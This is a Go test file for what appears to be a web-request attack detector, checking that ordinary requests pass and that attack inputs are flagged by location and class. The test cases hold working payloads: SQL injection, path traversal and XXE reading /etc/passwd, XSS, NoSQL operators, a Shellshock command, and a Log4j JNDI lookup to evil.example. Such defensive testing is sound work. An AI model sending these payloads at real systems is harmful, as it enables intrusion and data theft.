package payload

import (
	"bytes"
	"testing"

	"github.com/weir-dev/weir/schemas"
)

func ordinary() *schemas.Event {
	e := schemas.NewEvent()
	e.Method, e.Path = []byte("POST"), []byte("/v1/accounts/4711/orders")
	e.Query = []byte("page=2&sort=-created&q=o%27neil+%26+sons&next=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc")
	e.UserAgent = []byte("Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0")
	e.Headers = []schemas.KV{
		{Key: []byte("referer"), Value: []byte("https://example.com/list?x=1&y=%7B%22a%22%3A1%7D")},
		{Key: []byte("cookie"), Value: []byte("sid=h93ac; _ga=GA1.2.33.44; lang=en")},
		{Key: []byte("x-request-id"), Value: []byte("29dbe35a-3d62-4ae6-9ff1-07533ae65836")},
	}
	e.BodySample = []byte(`{"name":"Ana","address":{"street":"12 High St."},"tags":["a","b"],"n":3}`)
	return e
}

func TestRequestSaysWhere(t *testing.T) {
	d, s := shipped(t), new(Scratch)
	if f, where, name, _ := d.Request(s, ordinary()); f.Confidence >= d.DefaultThreshold() {
		t.Fatalf("an ordinary call: %+v %s %s", f, where, name)
	}
	const sql = "1' union all select null,user(),null-- -"
	form := "1%27+union+all+select+null,user(),null--+-"
	header := func(k, v string) func(*schemas.Event) {
		return func(e *schemas.Event) {
			e.Headers = append(e.Headers, schemas.KV{Key: []byte(k), Value: []byte(v)})
		}
	}
	body := func(s string) func(*schemas.Event) {
		return func(e *schemas.Event) { e.BodySample = []byte(s) }
	}
	for _, c := range []struct {
		what  string
		place func(*schemas.Event)
		where Location
		name  string
		class Class
	}{
		{"path", func(e *schemas.Event) { e.Path = []byte("/files/..%2f..%2f..%2fetc%2fpasswd") }, InPath, "", Traversal},
		{"plain path", func(e *schemas.Event) { e.Path = []byte("/cgi/../../../../etc/passwd") }, InPath, "", Traversal},
		{"query value", func(e *schemas.Event) { e.Query = []byte("a=1&id=" + form + "&b=2") }, InQuery, "id", SQLi},
		{"query name", func(e *schemas.Event) { e.Query = []byte("a=1&" + form) }, InQuery, form, SQLi},
		{"JSON", body(`{"a":{"b":["x","` + sql + `"]}}`), InBody, "b", SQLi},
		{"JSON escapes", body(`{"a":1,"b":"\u003cscript\u003ealert(1)\u003c\/script\u003e"}`), InBody, "b", XSS},
		{"JSON key", body(`{"user":{"$ne":null},"pass":"x"}`), InBody, "$ne", NoSQL},
		{"form", body("x=1&y=" + form), InBody, "y", SQLi},
		{"XML text", body(`<?xml version="1.0"?><a><b>` + sql + `</b></a>`), InBody, "b", SQLi},
		{"XML entity", body(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`), InBody, "", XXE},
		{"multipart", body("------x\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + sql + "\r\n------x--\r\n"), InBody, "q", SQLi},
		{"file name", body("--x1\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../../etc/passwd\"\r\n\r\nabc\r\n--x1--\r\n"), InBody, "f", Traversal},
		{"referer", header("Referer", "https://example.com/?q=%3Cscript%3Ealert(1)%3C/script%3E"), InHeader, "Referer", XSS},
		{"user agent", func(e *schemas.Event) { e.UserAgent = []byte("() { :;}; /bin/bash -c 'cat /etc/passwd'") }, InHeader, "user-agent", Command},
		{"extension header", header("x-api-version", "${jndi:ldap://evil.example/a}"), InHeader, "x-api-version", Log4j},
		{"cookie", header("cookie", "a=b; theme="+form), InCookie, "theme", SQLi},
	} {
		e := ordinary()
		c.place(e)
		f, where, name, ok := d.Request(s, e)
		if !ok || f.Confidence < d.DefaultThreshold() || where != c.where || string(name) != c.name || f.Class != c.class {
			t.Errorf("%s: %s %q %s, confidence %.4f, %q", c.what, where, name, f.Class, f.Confidence, f.Decoded)
		}
	}
}

func TestRequestWithoutAnything(t *testing.T) {
	e := schemas.NewEvent()
	e.Path = []byte("/v1/accounts/4711")
	if f, _, _, ok := shipped(t).Request(new(Scratch), e); ok || f.Confidence != 0 {
		t.Errorf("%v %+v", ok, f)
	}
}

func TestRequestAllocatesNothing(t *testing.T) {
	d, s, e := shipped(t), new(Scratch), ordinary()
	if n := testing.AllocsPerRun(100, func() { d.Request(s, e) }); n != 0 {
		t.Errorf("%v allocations", n)
	}
}

func TestWorkIsBounded(t *testing.T) {
	d, s := shipped(t), new(Scratch)
	e := schemas.NewEvent()
	e.Query = bytes.Repeat([]byte("a=b+c&"), 100000)
	d.Request(s, e)
	if s.judged > requestBudget {
		t.Errorf("%d texts were judged", s.judged)
	}
}

func FuzzRequest(f *testing.F) {
	f.Add([]byte("/a/%2e%2e/"), []byte("a=b&c=%7B%22d%22%3A1%7D"), []byte(`{"a":"b`), []byte("c=d; e"))
	f.Add([]byte("///"), []byte("&&=&=="), []byte("--b\r\n\r\n--b"), []byte(";;="))
	f.Add([]byte(""), []byte("q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), []byte("<?xml <!DOCTYPE <![CDATA["), []byte(""))
	f.Add([]byte(""), []byte(""), []byte("a=1"), bytes.Repeat([]byte("%25"), 3000))
	d, err := Prior()
	if err != nil {
		f.Fatal(err)
	}
	s := new(Scratch)
	f.Fuzz(func(t *testing.T, path, query, body, cookie []byte) {
		e := schemas.NewEvent()
		e.Path, e.Query, e.BodySample = path, query, body
		e.Headers = []schemas.KV{{Key: []byte("cookie"), Value: cookie}}
		a, where, name, ok := d.Request(s, e)
		if a.Confidence < 0 || a.Confidence > 1 || a.SpanStart < 0 || a.SpanEnd < a.SpanStart || a.SpanEnd > len(a.Decoded) || where.String() == "unknown" {
			t.Fatalf("%+v", a)
		}
		b, where2, name2, ok2 := d.Request(new(Scratch), e)
		if a.Confidence != b.Confidence || a.Class != b.Class || where != where2 || !bytes.Equal(name, name2) || ok != ok2 {
			t.Fatalf("a used scratch gives %+v, a new one %+v", a, b)
		}
	})
}
